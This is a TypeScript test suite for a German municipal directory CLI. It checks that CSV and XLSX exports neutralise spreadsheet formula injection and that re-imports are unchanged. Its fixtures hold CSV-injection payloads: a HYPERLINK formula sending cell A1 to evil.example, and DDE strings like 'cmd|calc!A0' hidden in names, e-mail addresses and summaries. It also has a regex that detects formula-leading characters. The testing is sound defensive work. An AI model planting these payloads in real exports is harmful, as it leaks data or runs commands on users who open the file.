import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { testConnectionString, uniquePrefix } from '../support/hooks';
import { runCliRecorded } from '../support/cli-output';
import { TempDirs } from '../support/temp-dirs';

const temp = new TempDirs();

/** Spreadsheet formulas as an attacker would put them into names, lists and texts. */
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Olfen")';
const SUM = '@SUM(1+1)*cmd|calc!A0';
const CMD_EMAIL = '-2+3+cmd|calc!A0@evil.example';
const PLUS_EMAIL = '+anna@evil.example';

const DIRECTORY = {
  municipalities: [
    { name: HYPERLINK, kind: 'municipality', website: '' },
    { name: SUM, kind: 'district', website: '' },
  ],
  people: [
    { email: CMD_EMAIL, name: '=1+1', roles: 'member', municipality: SUM, aad_object_id: '' },
    { email: PLUS_EMAIL, name: '-Anna', roles: 'cdo', municipality: HYPERLINK, aad_object_id: '' },
  ],
  projects: [
    {
      id: 'formel',
      title: '=HYPERLINK("https://evil.example","Klick")',
      aliases: ['eAkte', '@SUM(1)', '+x'],
      field: '+Feld',
      lead: HYPERLINK,
      participants: [SUM],
      owner: CMD_EMAIL,
      deputy: PLUS_EMAIL,
      phase: 'idea',
      summary: 'Erste Zeile\n-2+3+cmd|calc!A0\n=1+1',
    },
  ],
} as const;
const KINDS = ['municipalities', 'people', 'projects'] as const;
const GERMAN_KIND = { municipalities: 'Kommunen', people: 'Personen', projects: 'Projekte' } as const;

/** What a spreadsheet would take for a formula: a cell, or (German Excel splits CSV at `;`) a part after `;` or a line break. */
const CSV_FORMULA = /(^|[;\r\n])[=+\-@\t\r]/;

async function xlsxCells(file: string): Promise<ExcelJS.CellValue[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const cells: ExcelJS.CellValue[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push(cell.value)));
  return cells;
}

describe('directory exports and formulas', () => {
  let env: Record<string, string>;
  let dir: string;
  before(async () => {
    env = { TABLES_CONNECTION_STRING: testConnectionString(), TABLE_PREFIX: uniquePrefix() };
    dir = temp.make();
    for (const kind of KINDS) {
      const file = path.join(dir, `${kind}.json`);
      fs.writeFileSync(file, JSON.stringify(DIRECTORY[kind]));
      const imported = await runCliRecorded(['import', kind, file], env);
      assert.deepEqual(imported, { code: 0, stdout: [`${GERMAN_KIND[kind]}: ${DIRECTORY[kind].length} neu, 0 geändert, 0 unverändert.`], stderr: [] });
    }
  });
  after(() => temp.removeAll());

  for (const kind of KINDS) {
    it(`exports ${kind} to CSV with no cell and no part of a cell starting a formula`, async () => {
      const file = path.join(dir, `${kind}-export.csv`);
      assert.equal((await runCliRecorded(['export', kind, file], env)).code, 0);
      const cells = (parse(fs.readFileSync(file, 'utf8'), { bom: true }) as string[][]).flat();
      assert.deepEqual(cells.filter((cell) => CSV_FORMULA.test(cell)), []);
    });

    it(`exports ${kind} to XLSX with no cell starting a formula`, async () => {
      const file = path.join(dir, `${kind}-export.xlsx`);
      assert.equal((await runCliRecorded(['export', kind, file], env)).code, 0);
      const cells = await xlsxCells(file);
      assert.deepEqual(cells.filter((value) => typeof value !== 'string' || /^[=+\-@\t\r]/.test(value)), []);
    });

    for (const extension of ['.csv', '.xlsx']) {
      it(`imports its own ${kind} export as ${extension} unchanged`, async () => {
        const file = path.join(dir, `${kind}-again${extension}`);
        assert.equal((await runCliRecorded(['export', kind, file], env)).code, 0);
        const again = await runCliRecorded(['import', kind, file, '--dry-run'], env);
        assert.deepEqual(again, { code: 0, stdout: [`${GERMAN_KIND[kind]}: 0 neu, 0 geändert, ${DIRECTORY[kind].length} unverändert.`, 'Probelauf: nichts wurde gespeichert.'], stderr: [] });
      });
    }
  }

  it('writes the project with every formula neutralised and its cells quoted', async () => {
    const file = path.join(dir, 'projects-exact.csv');
    await runCliRecorded(['export', 'projects', file], env);
    const [, row] = fs.readFileSync(file, 'utf8').split(/\n(?=formel,)/);
    assert.equal(
      row,
      'formel,"\'=HYPERLINK(""https://evil.example"",""Klick"")","eAkte;\'@SUM(1);\'+x","\'+Feld",' +
        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Olfen"")","\'@SUM(1+1)*cmd|calc!A0",' +
        '"\'-2+3+cmd|calc!a0@evil.example","\'+anna@evil.example",idea,"Erste Zeile\n\'-2+3+cmd|calc!A0\n\'=1+1"' +
        // The fact sheet's columns, empty, and not public.
        ',,,,,,,no\n',
    );
  });

  it('writes the people with their names and e-mail addresses neutralised in XLSX', async () => {
    const file = path.join(dir, 'people-exact.xlsx');
    await runCliRecorded(['export', 'people', file], env);
    assert.deepEqual((await xlsxCells(file)).slice(5), [
      ...["'-2+3+cmd|calc!a0@evil.example", "'=1+1", 'member', "'@SUM(1+1)*cmd|calc!A0", ''],
      ...["'+anna@evil.example", "'-Anna", 'cdo', '\'=HYPERLINK("https://evil.example/?d="&A1,"Olfen")', ''],
    ]);
  });
});
